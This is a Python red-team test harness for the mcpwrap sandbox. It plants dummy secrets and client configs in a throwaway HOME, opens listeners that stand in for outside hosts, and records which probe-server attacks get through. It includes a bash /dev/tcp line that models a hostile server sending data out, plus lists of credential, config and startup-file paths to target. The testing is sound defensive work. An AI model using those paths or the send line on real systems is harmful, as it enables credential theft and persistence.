"""Builds a throw-away HOME full of things a hostile server wants, starts the probe server through the real
``mcpwrap wrap`` (as root or as an unprivileged user), and returns what the probe reported.

The base directory lies outside /tmp on purpose: with mcpwrap's files in /tmp the sandbox splits /tmp and
gives the server a private TMPDIR, which is not what a person's machine looks like.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

from tests.rig import wrap_command

PROBE = Path(__file__).with_name("probe_server.py")
UNPRIVILEGED = "mwtest"
START_DEADLINE = 30.0


def base_parent() -> str:
    for cand in (os.environ.get("MCPWRAP_REDTEAM_BASE"), "/home", "/var/tmp"):
        if cand and os.path.isdir(cand) and os.access(cand, os.W_OK):
            return cand
    return tempfile.gettempdir()


def unprivileged_available() -> bool:
    if os.getuid() != 0:
        return False
    try:
        pwd.getpwnam(UNPRIVILEGED)
    except KeyError:
        return False
    return shutil.which("setpriv") is not None


def host_addresses() -> tuple[str, str | None]:
    """A non-loopback IPv4 (and IPv6) address of this machine: a listener there stands in for 'outside'."""
    v4, v6 = "127.0.0.1", None
    try:
        out = subprocess.run(["ip", "-o", "addr"], capture_output=True, text=True, check=False).stdout
        for line in out.splitlines():
            parts = line.split()
            if parts[1] == "lo":
                continue
            if parts[2] == "inet" and v4 == "127.0.0.1":
                v4 = parts[3].split("/")[0]
            if parts[2] == "inet6" and v6 is None and not parts[3].startswith("fe80"):
                v6 = parts[3].split("/")[0]
    except (OSError, IndexError):
        pass
    return v4, v6


class Listeners:
    """TCP (all interfaces, v4+v6), UDP, unix stream/datagram and abstract listeners outside the sandbox;
    records who reached them."""

    def __init__(self, run_dir: Path, owner: tuple[int, int]) -> None:
        self.hits: list[str] = []
        self._socks: list[socket.socket] = []
        self.tcp = self._tcp_listener(6)
        self.port = self.tcp.getsockname()[1]
        self.rebind_tcp = self._tcp_listener(6)
        self.rebind_port = self.rebind_tcp.getsockname()[1]
        self.allowed_tcp = self._tcp_listener(6)
        self.allowed_port = self.allowed_tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.udp_port = self.udp.getsockname()[1]
        self.unix_stream = str(run_dir / "agent.sock")
        self.unix_dgram = str(run_dir / "journal.sock")
        self.abstract = f"mcpwrap-redteam-{os.getpid()}-{time.time_ns()}"
        us = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        us.bind(self.unix_stream)
        us.listen(8)
        ud = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        ud.bind(self.unix_dgram)
        ua = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        ua.bind("\0" + self.abstract)
        for p in (self.unix_stream, self.unix_dgram):
            os.chown(p, *owner)
            os.chmod(p, 0o777)
        self._socks += [self.udp, us, ud, ua]
        for name, s, kind in (("tcp", self.tcp, "accept"), ("rebind", self.rebind_tcp, "accept"), ("allowed", self.allowed_tcp, "accept"),
                              ("udp", self.udp, "recv"), ("unix-stream", us, "accept"), ("unix-dgram", ud, "recv"),
                              ("abstract", ua, "recv")):
            threading.Thread(target=self._serve, args=(name, s, kind), daemon=True).start()

    def _tcp_listener(self, family: int) -> socket.socket:
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("::", 0))
        s.listen(64)
        self._socks.append(s)
        return s

    def _serve(self, name: str, s: socket.socket, kind: str) -> None:
        while True:
            try:
                if kind == "accept":
                    c, addr = s.accept()
                    self.hits.append(f"{name} from {addr}")
                    try:
                        c.sendall(b"HTTP/1.0 200 OK\r\n\r\nlistener-says-hi\n")
                    except OSError:
                        pass
                    c.close()
                else:
                    data, addr = s.recvfrom(4096)
                    self.hits.append(f"{name}: {data[:40]!r}")
            except OSError:
                return

    def close(self) -> None:
        for s in self._socks:
            try:
                s.close()
            except OSError:
                pass


class Scenario:
    """One start of the probe server through mcpwrap, under one user, with one policy and working directory."""

    def __init__(self, *, user: str, policy: str = "", cwd: str = "project", attacks: list[str], extra_args: list[str] | None = None,
                 allowed_name: str | None = None, audit_in_project: bool = False,
                 home_override: bool = False, mcpwrap_home_elsewhere: bool = False, no_userns: bool = False,
                 early_connect: bool = False, bind_mirror: bool = False, server_args: list[str] | None = None) -> None:
        self.server_args = server_args or []
        self.no_userns = no_userns
        self.early_connect = early_connect
        self.user = user
        self.base = Path(tempfile.mkdtemp(prefix="mcpwrap-redteam-", dir=base_parent()))
        os.chmod(self.base, 0o755)
        if user == "root":
            self.uid, self.gid = 0, 0
        else:
            pw = pwd.getpwnam(user)
            self.uid, self.gid = pw.pw_uid, pw.pw_gid
        self.home = self.base / "home"
        self.mhome = self.home / ".mcpwrap"
        self.default_mhome = self.mhome
        if mcpwrap_home_elsewhere:  # this session's MCPWRAP_HOME is a per-project one; ~/.mcpwrap is the default
            self.mhome = self.base / "home" / "code" / "proj-mcpwrap-home"
        self.created_passwd_home: str | None = None
        self.passwd_files: list[str] = []
        self.out = self.base / "out"
        self.run = self.base / "run"
        self.audit_elsewhere = self.base / "logs" / "audit.jsonl"
        self.audit_in_project = audit_in_project
        self.run.mkdir(parents=True, exist_ok=True)
        self.listeners = Listeners(self.run, (self.uid, self.gid))
        # the policy may name the listeners' ports: {allowed_port}, {port}, {rebind_port}
        self.policy = (policy.replace("{allowed_port}", str(self.listeners.allowed_port))
                       .replace("{port}", str(self.listeners.port)).replace("{rebind_port}", str(self.listeners.rebind_port)))
        self._layout(self.policy)
        host4, host6 = host_addresses()
        self.project = self.home / "code" / "proj"
        bare = self.home / "code" / "bare"
        workdir = {"project": self.project, "home": self.home, "code": self.home / "code", "bare": bare}[cwd]
        h = self.home
        cfg = {
            "attacks": attacks,
            "writable_dir": str(workdir if cwd != "home" else self.home / "code"),
            "mcpwrap_files": [str(self.mhome / n) for n in ("audit.key", "policy.yaml", "audit.jsonl", "policy.overrides.yaml")]
            + [str(self.audit_elsewhere)],
            "mcpwrap_dirs": [str(self.mhome), str(self.mhome / "pins"), str(self.mhome / "approvals")],
            "rename_targets": [str(self.mhome), str(h / ".ssh"), str(self.base / "logs"), str(h / ".config"), str(h / ".local"),
                               str(h / ".claude"), str(h / ".config" / "Code"), str(self.project / ".claude")],
            "credential_files": [str(h / p) for p in (".ssh/id_rsa", ".aws/credentials", ".netrc", ".docker/config.json",
                                                      ".git-credentials", ".claude.json", ".local/share/keyrings/login.keyring",
                                                      ".mozilla/firefox/x.default/logins.json", ".config/gh/hosts.yml")],
            "unlisted_credential_files": [str(h / p) for p in (".cache/huggingface/token", ".config/rclone/rclone.conf",
                                                               ".kaggle/kaggle.json", ".config/sops/age/keys.txt",
                                                               ".config/op/config", ".fly/config.yml")],
            "client_configs": [str(h / p) for p in (".claude.json", ".claude/settings.json", ".cursor/mcp.json",
                                                    ".config/Code/User/mcp.json", ".codeium/windsurf/mcp_config.json",
                                                    ".config/Claude/claude_desktop_config.json")]
            + [str(self.project / ".mcp.json"), str(self.project / ".claude" / "settings.json"), str(self.project / ".vscode" / "tasks.json")],
            "run_later": [str(h / p) for p in (".bashrc", ".profile", ".zshrc", ".config/autostart/x.desktop", ".local/bin/new-tool",
                                               ".config/systemd/user/x.service", ".config/fish/config.fish")],
            "tool_bins": [str(h / p) for p in (".bun/bin/bun", ".deno/bin/deno", ".local/share/pnpm/pnpm", ".yarn/bin/yarn")],
            "path_symlinks": [str(h / ".local/bin/black")],  # -> ~/.local/share/uv/tools/black/bin/black
            "cache_code": [str(h / p) for p in (".rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
                                                ".cache/pre-commit/repo123/hook.py")],
            "run_later_unlisted": [str(h / p) for p in (".gitconfig", ".config/git/config", ".bash_logout", ".zlogin",
                                                        ".config/environment.d/50-x.conf",
                                                        ".local/lib/python3.12/site-packages/zz_evil.pth",
                                                        ".docker/cli-plugins/docker-compose",
                                                        ".config/nvim/init.lua", ".tmux.conf", ".config/pip/pip.conf")],
            "nested_project_configs": [str(h / "code" / "proj" / "sub" / p) for p in (".mcp.json", ".claude/settings.json", ".vscode/tasks.json", ".envrc")],
            "ro_binds": [str(self.project / ".mcp.json")],
            "watch_until": "id_ed25519_work",
            "missing_project_configs": [str(bare / p) for p in (".mcp.json", ".claude/settings.json", ".cursor/mcp.json", ".vscode/tasks.json")],
            "watch_dirs": [str(self.mhome), str(self.mhome / "approvals"), str(self.home / ".ssh")],
            "unix_stream": self.listeners.unix_stream,
            "unix_dgram": self.listeners.unix_dgram,
            "unix_abstract": self.listeners.abstract,
            "listener_port": self.listeners.port,
            "rebind_port": self.listeners.rebind_port,
            "allowed_port": self.listeners.allowed_port,
            "udp_port": self.listeners.udp_port,
            "host_ip": host4,
            "host_ip6": host6,
            "allowed_name": allowed_name,
            "loopback_name": socket.gethostname() if allowed_name else None,
            "outside_pids": [os.getpid()],
        }
        if audit_in_project:  # a person who keeps the log with the project: --audit-log ./mcp-audit.jsonl
            self.audit_elsewhere = self.project / "mcp-audit.jsonl"
            cfg["audit_log_writable"] = str(self.audit_elsewhere)
            cfg["mcpwrap_files"][-1] = str(self.audit_elsewhere)
        if home_override and user != "root":
            # the person's real home (from the password database) with a key in it; HOME points elsewhere
            pw_dir = pwd.getpwnam(user).pw_dir
            if not os.path.exists(pw_dir):
                os.makedirs(pw_dir + "/.ssh")
                self.created_passwd_home = pw_dir
                Path(pw_dir, ".ssh", "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nreal\n")
                for root, dirs, files in os.walk(pw_dir):
                    for n in [root, *(os.path.join(root, f) for f in dirs + files)]:
                        os.lchown(n, self.uid, self.gid)
            self.passwd_files = [os.path.join(pw_dir, ".ssh", "id_rsa")]
            cfg["passwd_home_files"] = self.passwd_files
        if mcpwrap_home_elsewhere:
            cfg["other_mcpwrap_files"] = [str(self.default_mhome / n) for n in ("audit.key", "policy.yaml")]
        self.shm = Path("/dev/shm") / f"mcpwrap-redteam-{os.getpid()}-{time.time_ns()}"
        if Path("/dev/shm").is_dir():
            self.shm.write_text("shared state\n")
            os.chown(self.shm, self.uid, self.gid)
            cfg["shm_file"] = str(self.shm)
        self.mirror: Path | None = None
        if bind_mirror and os.getuid() == 0:
            # as root before the session: ~/.ssh also mounted at <base>/mirror (a second name for the same directory)
            mirror = self.base / "mirror"
            mirror.mkdir()
            if subprocess.run(["mount", "--bind", str(self.home / ".ssh"), str(mirror)], capture_output=True).returncode == 0:
                self.mirror = mirror
                cfg["bind_mirror_files"] = [str(mirror / "id_rsa")]
        cfg_path = self.base / "probe.json"
        cfg_path.write_text(json.dumps(cfg))
        self.config = cfg
        self.workdir = workdir
        self._chown_all()
        self.extra_args = extra_args or []

    def _layout(self, policy: str) -> None:
        h = self.home
        files = {
            ".ssh/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\nredteam\n", ".aws/credentials": "[default]\naws_secret_access_key=x\n",
            ".netrc": "machine x login y password z\n", ".docker/config.json": '{"auths":{}}', ".git-credentials": "https://u:p@x\n",
            ".claude.json": '{"mcpServers":{}}', ".claude/settings.json": "{}", ".cursor/mcp.json": "{}",
            ".config/Code/User/mcp.json": "{}", ".codeium/windsurf/mcp_config.json": "{}", ".config/Claude/claude_desktop_config.json": "{}",
            ".local/share/keyrings/login.keyring": "k", ".mozilla/firefox/x.default/logins.json": "{}", ".config/gh/hosts.yml": "token: x\n",
            ".cache/huggingface/token": "hf_secret\n", ".config/rclone/rclone.conf": "[s3]\nsecret_access_key = x\n",
            ".kaggle/kaggle.json": '{"key":"x"}', ".config/sops/age/keys.txt": "AGE-SECRET-KEY-1X\n", ".config/op/config": "{}",
            ".fly/config.yml": "access_token: x\n",
            "secrets/k8s-config": "users: [{user: {token: x}}]\n", "secrets/aws-creds": "[default]\naws_secret_access_key=y\n",
            "secrets/docker/config.json": '{"auths": {"r": {"auth": "x"}}}', "secrets/gnupg/private-keys-v1.d/key.key": "k",
            "secrets/gcloud/credentials.db": "c", "secrets/pass/bank.gpg": "p", "secrets/gh/hosts.yml": "oauth_token: x\n",
            "secrets/azure/msal_token_cache.json": "{}",
            ".bashrc": "# rc\n", ".profile": "# p\n", ".zshrc": "# z\n", ".config/autostart/x.desktop": "[Desktop Entry]\n",
            ".config/systemd/user/x.service": "[Unit]\n", ".config/fish/config.fish": "# f\n",
            ".local/share/uv/tools/black/bin/black": "#!/bin/sh\n", ".rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc": "#!/bin/sh\n",
            ".cache/pre-commit/repo123/hook.py": "# hook\n", ".bun/bin/bun": "#!/bin/sh\n", ".deno/bin/deno": "#!/bin/sh\n",
            ".local/share/pnpm/pnpm": "#!/bin/sh\n", ".yarn/bin/yarn": "#!/bin/sh\n", ".gitconfig": "[user]\n", ".config/git/config": "[core]\n",
            ".bash_logout": "# l\n", ".zlogin": "# zl\n", ".local/lib/python3.12/site-packages/placeholder.txt": "",
            ".docker/cli-plugins/docker-compose": "#!/bin/sh\n", ".config/nvim/init.lua": "-- n\n", ".tmux.conf": "# t\n",
            ".config/pip/pip.conf": "[global]\n",
            "code/proj/.mcp.json": '{"mcpServers":{}}', "code/proj/.claude/settings.json": "{}", "code/proj/.vscode/tasks.json": "{}",
            "code/proj/README.md": "hi\n", "code/bare/README.md": "a project without client configuration\n", "code/proj/sub/.mcp.json": '{"mcpServers":{}}', "code/proj/sub/.claude/settings.json": "{}",
            "code/proj/sub/.vscode/tasks.json": "{}", "code/proj/sub/.envrc": "# e\n",
            ".mcpwrap/policy.yaml": policy or "# default policy\n", ".mcpwrap/audit.key": "0" * 64 + "\n",
            ".mcpwrap/pins/x.json": "{}", ".mcpwrap/approvals/a.json": "{}", ".mcpwrap/policy.overrides.yaml": "{}\n",
        }
        if self.mhome != self.default_mhome:
            rel = os.path.relpath(self.mhome, h)
            files.update({f"{rel}/policy.yaml": policy or "# default policy\n", f"{rel}/audit.key": "1" * 64 + "\n",
                          f"{rel}/pins/x.json": "{}", f"{rel}/approvals/a.json": "{}", f"{rel}/policy.overrides.yaml": "{}\n"})
        for rel, text in files.items():
            p = h / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text(text)
        (h / ".local/bin").mkdir(parents=True, exist_ok=True)
        os.symlink(h, self.base / "homelink")  # another name for HOME, for command-line arguments
        os.symlink(h / ".local/share/uv/tools/black/bin/black", h / ".local/bin/black")
        for d in (self.base / "logs", self.base / "out", self.base / "run"):
            d.mkdir(parents=True, exist_ok=True)
        self.audit_elsewhere.write_text("")

    def _chown_all(self) -> None:
        for root, dirs, files in os.walk(self.base):
            for n in dirs + files:
                os.lchown(os.path.join(root, n), self.uid, self.gid)
        os.chown(self.base, self.uid, self.gid)

    def cleanup_extra(self) -> None:
        if self.mirror is not None:
            subprocess.run(["umount", str(self.mirror)], capture_output=True)
        if self.created_passwd_home:
            shutil.rmtree(self.created_passwd_home, ignore_errors=True)
        try:
            self.shm.unlink()
        except OSError:
            pass

    def env(self) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("MCPWRAP", "HTTP_PROXY", "HTTPS_PROXY", "http_", "https_", "ALL_PROXY"))}
        env.update(HOME=str(self.home), MCPWRAP_HOME=str(self.mhome),
                   PATH=f"{self.home}/.local/bin:/usr/local/bin:/usr/bin:/bin",
                   MCPWRAP_AUDIT_KEY="f" * 64, USER=self.user, LOGNAME=self.user)
        sec = self.home / "secrets"
        env.update(KUBECONFIG=str(sec / "k8s-config"), AWS_SHARED_CREDENTIALS_FILE=str(sec / "aws-creds"),
                   DOCKER_CONFIG=str(sec / "docker"), GNUPGHOME=str(sec / "gnupg"), CLOUDSDK_CONFIG=str(sec / "gcloud"),
                   PASSWORD_STORE_DIR=str(sec / "pass"), GH_CONFIG_DIR=str(sec / "gh"), AZURE_CONFIG_DIR=str(sec / "azure"))
        env.pop("XDG_RUNTIME_DIR", None)
        return env

    def command(self) -> list[str]:
        # the probe needs only the standard library; an unprivileged user may not reach the test's interpreter
        python = sys.executable if self.user == "root" or not os.path.exists("/usr/bin/python3") else "/usr/bin/python3"
        # extra arguments, as a client configuration would give them (``{home}`` is the HOME of the session)
        extra = [a.replace("{home}", str(self.home)).replace("{base}", str(self.base)) for a in self.server_args]
        server = [python, str(PROBE), str(self.base / "probe.json"), str(self.out), *extra]
        if self.early_connect and shutil.which("bash"):
            # what a hostile server does first thing (bash starts in milliseconds, before mcpwrap has read its
            # whole policy): send something out, then carry on as the probe
            early = f"(echo early >/dev/tcp/127.0.0.1/{self.listeners.port}) 2>/dev/null; exec \"$@\""
            server = [shutil.which("bash"), "-c", early, "bash", *server]
        cmd = wrap_command(server,
                           "--name", "probe", *self.extra_args, audit_log=self.audit_elsewhere)
        if self.user != "root":
            cmd = ["setpriv", f"--reuid={self.uid}", f"--regid={self.gid}", "--init-groups", *cmd]
        if self.no_userns:  # outermost: the refusal is inherited by everything below
            cmd = [sys.executable, str(PROBE.with_name("no_userns.py")), *cmd]
        return cmd

    def run_probe(self) -> dict:
        """Start, wait (with a deadline) for the probe's results, end the session, return everything seen."""
        cmd = self.command()
        env = self.env()
        proc = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=self.workdir, env=env)
        results_file = self.out / "results.json"
        for stale in ("results.json", "inotify.json", "daemon.lock", "daemon-pid", "session-ended"):
            try:
                (self.out / stale).unlink()  # a second start in the same world
            except FileNotFoundError:
                pass
        deadline = time.monotonic() + START_DEADLINE
        init = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
                "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}
        assert proc.stdin is not None
        proc.stdin.write((json.dumps(init) + "\n").encode())
        proc.stdin.flush()
        while not results_file.exists() and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.05)
        inotify_file = self.out / "inotify.json"
        if "inotify_protected" in self.config["attacks"] and results_file.exists():
            # what the person and mcpwrap do meanwhile: a new approval, a look at the key, an ssh key used
            for d, name in ((self.mhome / "approvals", "req-7f3a9c-code-492817.json"), (self.home / ".ssh", "id_ed25519_work")):
                (d / name).write_text("{}")
            (self.home / ".ssh" / "id_rsa").read_text()
            while not inotify_file.exists() and time.monotonic() < deadline and proc.poll() is None:
                time.sleep(0.05)
        try:
            proc.stdin.close()
        except OSError:
            pass
        proc.stdin = None  # closed: communicate() must not flush it
        try:
            stdout, stderr = proc.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
            stdout, stderr = proc.communicate()
        results = json.loads(results_file.read_text()) if results_file.exists() else {}
        # give datagram listeners a moment of their own deadline to have recorded what arrived
        end = time.monotonic() + 1.0
        while time.monotonic() < end and not self.listeners.hits:
            time.sleep(0.05)
        audit = []
        for f in (self.audit_elsewhere,):
            if f.exists():
                audit += [json.loads(l) for l in f.read_text().splitlines() if l.strip().startswith("{")]
        inotify = json.loads(inotify_file.read_text()) if inotify_file.exists() else []
        daemon_alive = False
        if "daemon_outlives" in self.config["attacks"] and (self.out / "daemon.lock").exists():
            import fcntl

            fd = os.open(self.out / "daemon.lock", os.O_RDWR)
            end = time.monotonic() + 2.0  # the namespace's teardown is over before mcpwrap exits; a margin anyway
            daemon_alive = True
            while time.monotonic() < end:
                try:
                    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    daemon_alive = False
                    break
                except BlockingIOError:
                    time.sleep(0.05)
            os.close(fd)
            (self.out / "session-ended").write_text("")  # a live daemon ends itself
            if daemon_alive:
                try:
                    os.kill(int((self.out / "daemon-pid").read_text()), 9)
                except (OSError, ValueError):
                    pass
        return {"daemon_alive": daemon_alive, "inotify": inotify, "results": results, "stdout": stdout, "stderr": stderr, "returncode": proc.returncode,
                "hits": list(self.listeners.hits), "audit": audit}

    def files_changed(self) -> list[str]:
        changed = []
        for root, _dirs, files in os.walk(self.base):
            for n in files:
                p = os.path.join(root, n)
                try:
                    if not os.path.islink(p) and b"mcpwrap-redteam-marker" in open(p, "rb").read():
                        changed.append(p)
                except OSError:
                    pass
        return changed

    def cleanup(self) -> None:
        self.cleanup_extra()
        self.listeners.close()
        shutil.rmtree(self.base, ignore_errors=True)
